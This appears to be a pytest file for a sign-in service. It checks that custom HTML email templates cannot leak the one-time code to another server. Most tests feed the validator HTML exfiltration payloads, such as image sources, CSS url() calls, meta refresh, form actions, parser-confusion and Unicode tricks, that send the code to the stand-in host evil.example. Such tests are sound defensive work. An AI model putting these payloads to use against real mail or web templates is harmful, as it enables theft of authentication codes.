"""The HTML of a message, which sends its code to another server as soon as the message is opened (AP48)."""

import pytest
from rest_framework import serializers

from interaction.experience import forms, html_codes
from interaction.experience import services as experience
from interaction.experience.message_templates import CODES
from interaction.pages import built_in_messages
from tests.support.management import refusal_of, result_of

ONLY_IN_TEXT = "may contain {code} only in the text and in the href of a link"
QUOTED = "may contain {name} only in the text and in quoted values of attributes"
HOST = "must name a host before {code} in the href of a link"
STYLE = "must not have attr, a backslash, &# or a brace in the style of a link with {code}"
# White space and letters for Python's regular expressions, and neither for a browser.
OTHER_SPACES = ["\u00a0", "\u1680", "\u2003", "\u2028", "\u3000"]
CONTROLS = ["\x0b", "\x1c", "\x85"]  # the field refuses these before
OTHER_LETTERS = ["\u017f", "\u212a", "\u0131"]
IMAGE = "<img src='https://evil.example/?c=\">{code}'>"
ELEMENTS = (
    *("iframe", "link", "math", "noembed", "noframes", "noscript", "plaintext", "script", "style", "svg"),
    *("template", "textarea", "xmp"),
)


def send(caller, html, **more):
    template = {"purpose": "second_factor", "channel": "email", "language": "", "subject": "Hello"}
    templates = [template | {"text": "{code}", "html": html} | more]
    return caller.patch("/sign-in-experience", message_templates=templates)


def assert_is_refused(caller, html, says):
    answer = send(caller, html)

    assert says in refusal_of(answer, 400)
    assert [error["field"] for error in answer.json()["errors"]] == ["message_templates[0].html"]


@pytest.mark.parametrize(
    "html",
    [
        """{code}<img src="https://evil.example/p.gif?c={code}">""",
        "{code}<p style='background: url(https://evil.example/{code})'>",
        "{code}<a href='https://evil.example/' ping='https://evil.example/{code}'>",
        "{code}<!--[if mso]><img src='https://evil.example/{code}'><![endif]-->",
        "{code}<img src='https://evil.example/{code}",
        """{code}<a style='background: /* href="*/ url(https://evil.example/{code}) /*" */'>""",
        """{code}<title><a href="</title><img src=https://evil.example/{code}>"></a>""",
        """{code}<a x=" href='" style="background: url(//evil.example/{code}); x: '">x</a>""",
        """{code}<img a" src="https://evil.example/?x>{code}">""",
        """{code}<img a==" src="https://evil.example/?x>{code}">""",
        """{code}<img =" src="https://evil.example/?x>{code}">""",
        """{code}<!--><img src="https://evil.example/?--> {code}">""",
        """{code}<!--x--!><img src="https://evil.example/?--> {code}">""",
        """{code}<meta http-equiv=refresh content="0; url=https://evil.example/{code}">""",
        """<base target='{code}'>{code}""",
        """<base href="https://evil.example/{code}/">{code}""",
        """<form action="https://evil.example/"><input type=hidden name=c value="{code}"></form>{code}""",
        """<button formaction="https://evil.example/{code}">{code}</button>""",
        """<option value={code}>{code}</option>""",
        """<object data="https://evil.example/{code}"></object>{code}""",
        """<title a="</title>">x<x y="</title><img src='https://evil.example/?">{code}'>""",
        """<title/>x<x y="</title><img src='https://evil.example/?">{code}'>""",
        """<title>x</titles><x y="</title><img src='https://evil.example/?">{code}'>""",
        """<title>{code}""",
    ],
)
def test_attack_AP48_tags_have_the_code_only_in_the_address_of_a_link(recent, html):
    assert_is_refused(recent, html, ONLY_IN_TEXT)


@pytest.mark.parametrize("space", OTHER_SPACES, ids=ascii)
def test_attack_AP48_white_space_is_that_of_html(recent, space):
    assert_is_refused(recent, f'<p>Your code: {{code}}</p><x{space}y="> {IMAGE}', ONLY_IN_TEXT)
    assert_is_refused(recent, f'<p>Your code: {{code}}</p><x y={space}"> {IMAGE}', ONLY_IN_TEXT)


@pytest.mark.parametrize("space", [*OTHER_SPACES, *CONTROLS], ids=ascii)
def test_attack_AP48_white_space_is_so_also_without_the_field(space):
    for html in (f'<x{space}y="> {IMAGE}', f'<x y={space}"> {IMAGE}'):
        with pytest.raises(serializers.ValidationError):
            html_codes.check(f"<p>{{code}}</p>{html}")


@pytest.mark.parametrize("letter", OTHER_LETTERS, ids=ascii)
def test_attack_AP48_letters_are_those_of_ascii(recent, letter):
    assert_is_refused(recent, f'<p>{{code}}</p><{letter} y="> {IMAGE}', ONLY_IN_TEXT)
    assert_is_refused(recent, f'<p>{{code}}</p></{letter} y="> {IMAGE}', ONLY_IN_TEXT)


@pytest.mark.parametrize("element", ELEMENTS)
def test_attack_AP48_elements_that_read_the_code_are_refused(recent, element):
    """A rule such as ``a[href^="https://app.example/?c=307"]`` loads a picture by the digits of the code."""
    says = f"must not contain the element <{element}> if it contains {{code}}"

    for html in (f"<{element}>", f"<{element.upper()}\n>", f"<{element}/", f"<!--[if mso]><{element}>-->"):
        assert_is_refused(recent, "<p>{code}</p>" + html, says)


@pytest.mark.parametrize(
    "html",
    [
        # With the name "a=b", the quote after "=" is in a value without quotes.
        f'<x {{name}}="> {IMAGE}',
        # With the name "img src=", the element is a picture.
        "<{name} 'https://evil.example/?c=>{code}'>",
        "<x{name} y=1>{code}",
        "<x y={name}>{code}",
        "</{name}>{code}",
        "<!--{name}-->{code}",
    ],
)
def test_attack_AP48_the_name_of_the_tenant_makes_no_tag(recent, html):
    assert "may contain {" in refusal_of(send(recent, html), 400)


def test_attack_AP48_the_refusal_names_the_placeholder(recent):
    assert_is_refused(recent, f'<x {{name}}="> {IMAGE}', QUOTED)


@pytest.mark.parametrize(
    "address",
    [
        "https://{code}.evil.example/",
        "https://a.{code}.evil.example/?c",
        "//{code}.evil.example/",
        "https:/\\{code}.evil.example/",
        "https:///{code}.evil.example/",
        "https:&#47;&#47;{code}.evil.example/",
        "https://{name}/{code}",
        "https://\t/{code}.evil.example",
        "{code}",
        "#{code}",
    ],
)
def test_attack_AP48_no_name_server_gets_the_code(recent, address):
    """Programs for mail look the hosts of links up in advance."""
    assert_is_refused(recent, f'{{code}}<a href="{address}">Enter</a>', HOST)


@pytest.mark.parametrize(
    "style", ["--c: attr(href)", "--c: ATTR(href)", r"--c: \61ttr(href)", "--c: &#97;ttr(href)", "{name}"]
)
def test_attack_AP48_the_style_of_a_link_does_not_read_its_address(recent, style):
    html = f'<a href="https://app.example/?c={{code}}" style="{style}">Enter</a>'

    assert_is_refused(recent, html, STYLE)


@pytest.mark.parametrize(
    "html",
    [
        "<!doctype html><title>{code}</title><b>{code}</b> 1 < 2 {code}",
        "<a href='https://app.example/enter?code={code}'>Enter {code}</a>",
        "<td width=9 title='a>b'><a class=\"b\" href=https://app.example/{code} target=_blank>{code}</a>",
        "<a\tHREF\n=\r'com.example.app:/enter/{code}' style='color: rgb(0, 0, 0)'>{name}\u00a0{code}</a>",
        "<img alt=\"{name}\" src='https://app.example/logo.png'><!-- Codes --><p style='top: 0'>{code}",
        "<p title='\u00a0\u017f'>\u2003{code}</p>",
    ],
)
def test_people_may_read_it_and_follow_a_link_with_it(recent, html):
    result_of(send(recent, html))


def test_a_message_without_code_may_have_a_style_sheet(recent):
    html = "<style>p { top: 0 }</style><p>{time}</p>"

    result_of(send(recent, html, purpose="notice_password_changed", text="Hello"))


def test_the_built_in_messages_are_allowed(acme, recent):
    keys = [key for key in forms.MESSAGES if key.purpose in CODES and key.channel == "email"]

    with acme.active():
        built_in = [built_in_messages.build(key, experience.current())["html"] for key in keys]
    assert built_in
    for html in built_in:
        assert "{code}" in html
        html_codes.check(html)
